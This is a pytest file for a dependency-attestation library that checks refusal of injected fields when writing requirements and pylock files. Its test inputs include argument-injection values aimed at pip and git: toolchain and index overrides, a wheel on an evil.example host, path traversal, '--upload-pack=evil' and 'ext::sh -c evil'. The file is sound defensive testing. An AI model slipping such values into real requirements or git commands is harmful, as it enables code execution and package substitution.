"""What a fresh review found of issue 4: may a record have an installer do anything but install the bytes it names?"""

from typing import Any

import pytest

from glasswing_attest.artifact.digest import DigestSet
from glasswing_attest.errors import FieldRefused, PackagesUnpinned
from glasswing_attest.records import DependencyRecord, PackageArtifact, PinnedPackage
from glasswing_attest.statement.resource import ResourceDescriptor

SHA, COMMIT = "a" * 64, "0123456789abcdef0123456789abcdef01234567"
ARCHIVE = {"installed_as": "direct-url", "url": "https://x.example/demo-1.0.tar.gz"}
COMMITTED = {"installed_as": "vcs", "vcs": "git", "url": "https://git.example/x", "commit": COMMIT, "artifacts": ()}


def record(**said: Any) -> DependencyRecord:
    artifact = PackageArtifact(name="demo-1.0-py3-none-any.whl", digest={"sha256": SHA})
    package: dict[str, Any] = {
        "name": "demo",
        "version": "1.0",
        "installed_as": "index",
        "artifacts": [artifact],
        **said,
    }
    return DependencyRecord(packages=[PinnedPackage(**package)])


@pytest.mark.parametrize(
    "marker",
    [
        # pip takes options from a line of requirements, and passes those of -C on to what builds an sdist.
        "python_version >= '3' -C cmake.args=-DCMAKE_TOOLCHAIN_FILE=/tmp/evil",
        "python_version >= '3' -i https://evil.example/simple",
        "python_version >= '3' or 'x -C a=b' == 'y'",
        # And it replaces what looks like an environment variable.
        "platform_version == '${HOME}'",
        "python_version >= '3' ; x",
        "evil",
    ],
)
def test_a_marker_says_nothing_but_a_marker(marker: str) -> None:
    with pytest.raises(FieldRefused) as refused:
        record(marker=marker).to_requirements()
    assert (refused.value.code, refused.value.where) == ("malformed.field", "requirements")
    assert refused.value.found == marker


def test_a_marker_is_written_as_it_is_read() -> None:
    text = record(marker="python_version>='3' and ( os.name=='posix' )").to_requirements()
    assert text.startswith('demo==1.0 ; python_version >= "3" and os_name == "posix" \\\n')


@pytest.mark.parametrize("version", ["1.0,!=1.0", "1.0@https://evil.example/x.whl", "=x"])
def test_a_version_says_nothing_but_a_version(version: str) -> None:
    with pytest.raises(FieldRefused) as refused:
        record(version=version).to_requirements()
    assert (refused.value.where, refused.value.found) == ("requirements", version)


@pytest.mark.parametrize("below", [f"a&sha256={SHA}", "../../../tmp/evil", "/tmp/evil", "a/../../b", "a#egg=evil"])
@pytest.mark.parametrize("source", [ARCHIVE, COMMITTED])
def test_a_subdirectory_lies_within_what_has_the_digest(below: str, source: dict[str, Any]) -> None:
    found = record(**source, subdirectory=below)
    writers = [found.to_pylock] if source is COMMITTED else [found.to_pylock, found.to_requirements]
    for write in writers:
        with pytest.raises(FieldRefused) as refused:
            write()
        assert (refused.value.where, refused.value.found) == ("subdirectory", below)
    assert 'subdirectory = "py/demo-1"' in record(**source, subdirectory="py/demo-1").to_pylock()


@pytest.mark.parametrize(
    ("said", "missing"),
    [
        ({"commit": "main"}, "the id of its commit"),
        ({"commit": "--upload-pack=evil"}, "the id of its commit"),
        ({"commit": COMMIT[:12]}, "the id of its commit"),
        ({"vcs": "svn", "commit": "4711"}, "the id of its commit"),
        ({"url": "ext::sh -c evil"}, "its URL"),
        ({"url": "--evil"}, "its URL"),
    ],
)
def test_a_repository_is_pinned_by_the_id_of_a_commit(said: dict[str, str], missing: str) -> None:
    with pytest.raises(PackagesUnpinned) as refused:
        record(**{**COMMITTED, **said}).to_pylock()
    assert (refused.value.where, refused.value.found) == ("demo==1.0", f"a repository without {missing}")
    assert COMMIT in record(**COMMITTED).to_pylock()


@pytest.mark.parametrize(
    "url", ["-r", "git+https://git.example/x@main", "../evil", f"https://x.example/x#sha256={SHA}"]
)
def test_an_archive_is_had_from_a_url(url: str) -> None:
    found = record(installed_as="direct-url", url=url)
    for write in (found.to_pylock, found.to_requirements):
        with pytest.raises(PackagesUnpinned) as refused:
            write()
        assert refused.value.found == "no URL"


def test_a_purl_in_capitals_is_a_package_as_well() -> None:
    digest = DigestSet.of(sha256=SHA)
    found = DependencyRecord.from_dependencies([ResourceDescriptor(uri="pkg:PyPI/demo@1.0", digest=digest)])
    assert found.to_requirements() == f"demo==1.0 \\\n    --hash=sha256:{SHA}\n"
    other = ResourceDescriptor(uri="PKG:Generic/demo@1.0", digest=digest, annotations={"installedAs": "unknown"})
    assert DependencyRecord.from_dependencies([other]).packages[0].installed_as == "unknown"


def test_provenance_that_names_a_branch_is_no_lock() -> None:
    uri = "pkg:pypi/demo@1.0?vcs_url=git%2Bhttps://git.example/x%40main"
    found = DependencyRecord.from_dependencies([ResourceDescriptor(uri=uri, digest=DigestSet.of(sha256=SHA))])
    with pytest.raises(PackagesUnpinned) as refused:
        found.to_pylock()
    assert refused.value.where == "demo==1.0"
